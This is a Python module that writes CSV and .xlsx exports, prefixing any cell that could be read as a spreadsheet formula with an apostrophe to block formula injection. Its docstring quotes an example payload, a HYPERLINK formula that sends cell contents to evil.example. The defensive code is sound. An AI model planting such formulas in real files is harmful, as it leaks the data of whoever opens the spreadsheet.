"""Writing CSV and .xlsx files that are safe to open in a spreadsheet.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before reading a formula) is taken as a formula when the file is
opened: ``=HYPERLINK("http://evil.example/?"&A1, "Click")`` in an organisation's name would
leak data or run commands (CSV/formula injection, OWASP). Every text cell written by an export
goes through :func:`neutralise`, which prefixes such text with an apostrophe so that it is
shown as the text it is. Numbers, dates and other non-text values are left as they are, so a
negative number stays a number.

openpyxl itself writes any string that starts with ``=`` as a formula, so .xlsx needs this as
much as CSV does.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """Return `value` safe to put in a spreadsheet cell.

    Text that a spreadsheet would read as a formula gets a leading apostrophe
    (``"=1+1"`` → ``"'=1+1"``); every other value, text or not, is returned unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralised_row(row: Iterable[object]) -> list[object]:
    """The cells of `row`, each passed through :func:`neutralise`."""
    return [neutralise(cell) for cell in row]


def write_csv_rows(rows: Iterable[Sequence[object]], *, header: Sequence[object] = ()) -> str:
    """CSV text (RFC 4180, ``\\r\\n`` line ends) of `header` and `rows`, every cell neutralised.

    ``None`` is written as an empty cell.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    if header:
        writer.writerow(neutralised_row(header))
    for row in rows:
        writer.writerow(["" if cell is None else cell for cell in neutralised_row(row)])
    return buffer.getvalue()


def write_xlsx_rows(
    rows: Iterable[Sequence[object]],
    *,
    header: Sequence[object] = (),
    sheet_title: str = "Sheet1",
) -> bytes:
    """The bytes of an .xlsx workbook with one sheet of `header` (bold) and `rows`.

    Every cell is neutralised; the workbook is written in openpyxl's write-only mode, so
    long exports stream instead of building the whole sheet in memory. Sheet titles are cut
    to Excel's 31 characters and stripped of the characters it refuses.
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=_sheet_title(sheet_title))
    if header:
        bold = Font(bold=True)
        cells = []
        for value in neutralised_row(header):
            cell = WriteOnlyCell(sheet, value=value)
            cell.font = bold
            cells.append(cell)
        sheet.append(cells)
    for row in rows:
        sheet.append(neutralised_row(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _sheet_title(title: str) -> str:
    cleaned = "".join(" " if char in "[]:*?/\\" else char for char in title).strip()
    return (cleaned or "Sheet1")[:31]
